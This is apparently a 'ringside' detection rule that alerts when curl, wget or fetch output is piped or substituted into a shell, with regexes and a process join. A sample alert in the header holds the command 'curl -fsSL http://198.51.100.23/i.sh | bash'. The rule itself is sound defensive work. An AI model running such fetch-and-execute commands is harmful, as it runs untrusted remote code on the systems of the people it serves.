// ringside: title="Fetched text goes straight into a shell" technique=T1105,T1059.004 level=medium tags=linux,execution
//
// `curl … | sh`, on one command line or typed at a prompt. There it is two programs that one shell starts at the same moment, in an order that nobody
// knows: one that fetches, and a shell that is given no script. A join pairs them.
//
//     $ sudo ringside run fetched-into-shell.js -o line
//     time=2026-05-04T13:15:20.400700000Z level=medium rule=fetched-into-shell message="ada: curl -fsSL http://198.51.100.23/i.sh | bash"
//
// Known false positives: installers that are meant to be used so. Those of `trusted` are left out.
// References: https://attack.mitre.org/techniques/T1105/ https://attack.mitre.org/techniques/T1059/004/

import { downloaders, shells } from "ringside:lists";
import { shorten } from "ringside:text";

const trusted =
    /https:\/\/(sh\.rustup\.rs|get\.docker\.com|get\.k3s\.io|install\.python-poetry\.org|raw\.githubusercontent\.com\/(nvm-sh|Homebrew)\/)/;
const piped = /\b(curl|wget|fetch)\b[^|;]*\|\s*(sudo\s+)?(\/\S*\/)?(ba|da|z|k)?sh\b/;
const substituted = /sh\s+(-c\s+)?["']?[$<]\(\s*(curl|wget|fetch)\b/;
/** No script and no command: the shell reads what it is to do. */
const waiting = /^(\S*\/)?(ba|da|z|k)?sh(\s+-[sex]+)*(\s+-)?(\s+--.*)?$/;

procs
    .where(name.in(shells) && (cmdline.matches(piped) || cmdline.matches(substituted)) && !cmdline.matches(trusted))
    .alert((e) => `${e.user}: ${shorten(e.cmdline)}`);

procs
    .where(name.in(downloaders) && !cmdline.matches(trusted))
    .join(procs.where(name.in(shells) && cmdline.matches(waiting)), { by: ["parentGuid"], within: "500ms" })
    .alert((e) => `${e.user}: ${shorten(e.cmdline)} | ${e.right.cmdline}`);
